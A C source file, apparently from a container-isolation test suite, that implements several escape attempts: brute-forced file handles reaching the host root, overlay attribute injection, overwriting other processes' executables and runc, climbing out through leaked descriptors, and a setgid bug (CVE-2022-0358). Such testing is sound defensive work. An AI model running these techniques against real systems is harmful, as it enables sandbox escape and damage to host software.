// Files: handles, attributes, links and other processes' programs.
#include "attack.h"
#include <dirent.h>
#include <sys/un.h>
#include <sys/xattr.h>

// Lists a directory by descriptor as "NAME".
static void list(int fd, const char *what) {
    DIR *directory = fdopendir(fd);
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        if (entry->d_name[0] != '.') printf("%s:%s\n", what, entry->d_name);
    }
    if (directory) closedir(directory);
}

// handles DIR: the root directory, and what else can be guessed, of the file system that DIR is on, by handles.
static int handles(int argc, char **argv) {
    int mount = open(argc > 1 ? argv[1] : "/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } own = {.handle = {.handle_bytes = 128}};
    int id;
    bool named = name_to_handle_at(mount, "", &own.handle, &id, AT_EMPTY_PATH) == 0;
    note(named, "own handle of type %d", own.handle.handle_type);
    for (uint32_t number = 1; number < 300; number++)
        for (int type = 1; type <= 2; type++) {
            struct {
                struct file_handle handle;
                uint32_t words[8];
            } guess = {.handle = {.handle_bytes = 8, .handle_type = type}};
            guess.words[0] = number;
            if (named && own.handle.handle_bytes > 8) { // FUSE: number and generation, 64 and 32 bits
                memcpy(&guess, &own, sizeof own.handle + own.handle.handle_bytes);
                guess.words[0] = 0, guess.words[1] = number;
                if (type == 2) guess.words[0] = number, guess.words[1] = 0;
            }
            int fd = open_by_handle_at(mount, &guess.handle, O_RDONLY | O_CLOEXEC);
            note(fd >= 0, "%u", number);
            if (fd >= 0) list(fd, "handle");
        }
    return 0;
}

// attributes FILE: those by which an overlay of the host or a program on it would be steered.
static int attributes(int argc, char **argv) {
    const char *names[] = {"trusted.overlay.redirect", "trusted.overlay.metacopy", "trusted.overlay.opaque", "trusted.attack", "security.attack",
        "security.selinux", "security.ima", "system.posix_acl_access", "user.overlay.redirect"};
    int fd = open(argv[argc - 1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    for (size_t index = 0; index < COUNT(names); index++) note(fsetxattr(fd, names[index], "/etc", 4, 0) == 0, "%s", names[index]);
    return 0;
}

// list-attributes FILE: their names, a line each. The suite runs it on the host.
static int list_attributes(int argc, char **argv) {
    char names[4096];
    ssize_t length = llistxattr(argv[argc - 1], names, sizeof names);
    for (ssize_t at = 0; at < length; at += strlen(names + at) + 1) printf("%s\n", names + at);
    return length < 0;
}

// overwrite: the programs of all processes that can be seen, their descriptors, and what is above them.
static int overwrite(int argc, char **argv) {
    (void)argc, (void)argv;
    const char *names[] = {"exe", "root/proc/self/exe", "cwd/../../../../bin/runc"};
    for (double start = now(); now() < start + 0.3;)
        for (int pid = 1; pid < 400; pid++) {
            char path[300];
            for (size_t index = 0; index < COUNT(names); index++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, names[index]);
                int fd = pid == getpid() ? -1 : open(path, O_WRONLY | O_CLOEXEC);
                note(fd >= 0 && write(fd, "#!/bin/false\n", 13) == 13, "%s", path);
                if (fd >= 0) close(fd);
            }
        }
    return 0;
}

// above PATH: a file of the host, by every descriptor that was left open and up from there.
static int above(int argc, char **argv) {
    for (int fd = 0; fd < 64; fd++)
        for (int depth = 0; depth < 12; depth++) {
            char path[600] = "";
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            for (int up = 0; up < depth; up++) strcat(path, "/..");
            strncat(path, argc > 1 ? argv[1] : "/", 300);
            int file = open(path, O_RDONLY | O_CLOEXEC);
            note(file >= 0, "%d", fd);
            char text[200];
            ssize_t length = file >= 0 ? read(file, text, sizeof text) : 0;
            if (length > 0) fwrite(text, 1, length, stdout);
            if (file >= 0) close(file);
        }
    return 0;
}

// set-group-id DIR: programs of a group that their maker is no member of (CVE-2022-0358).
static int set_group_id(int argc, char **argv) {
    if (argc < 2 || chdir(argv[1]) || mkdir("group", 0777) || chown("group", 0, 50) || chmod("group", 02777)) return 1;
    if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setgid, 1000) || syscall(SYS_setuid, 1000) || chdir("group")) return 1;
    umask(0);
    int fd = open("created", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 02775);
    note(fd >= 0, "create");
    note(mknod("node", S_IFREG | 02775, 0) == 0, "mknod");
    int unnamed = open(".", O_TMPFILE | O_WRONLY | O_CLOEXEC, 02775);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", unnamed);
    note(unnamed >= 0 && linkat(AT_FDCWD, path, AT_FDCWD, "unnamed", AT_SYMLINK_FOLLOW) == 0, "tmpfile");
    note(chmod("created", 02775) == 0, "chmod");
    return 0;
}

// connect SOCKET: says something to whoever listens there.
static int connect_socket(int argc, char **argv) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, argv[argc - 1], sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    bool worked = connect(fd, (void *)&address, sizeof address) == 0;
    note(worked && write(fd, "hello\n", 6) == 6, "connect");
    return 0;
}

const struct attack files_attacks[] = {{"handles", handles}, {"attributes", attributes}, {"list-attributes", list_attributes}, {"overwrite", overwrite}, {"above", above}, {"set-group-id", set_group_id}, {"connect", connect_socket}, {NULL, NULL}};
